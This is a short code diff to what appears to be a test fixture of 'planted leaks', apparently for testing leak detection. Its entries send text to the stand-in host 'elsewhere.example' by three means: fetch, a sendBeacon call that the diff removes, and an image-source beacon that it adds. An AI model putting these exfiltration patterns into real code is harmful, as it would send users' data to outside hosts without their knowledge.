@@ -125,9 +125,11 @@ export const plantedLeaks: readonly PlantedLeak[] = [
     plant: (text) => fetch(`//elsewhere.example/${text}`).catch(() => 0),
   },
   {
-    leak: 'a beacon to somebody else',
+    leak: 'an image of somebody else',
     sink: 'console',
-    plant: (text) => navigator.sendBeacon(`//elsewhere.example/${text}`),
+    plant: (text) => {
+      new Image().src = `//elsewhere.example/${text}`;
+    },
   },
   {
     leak: 'the memory',
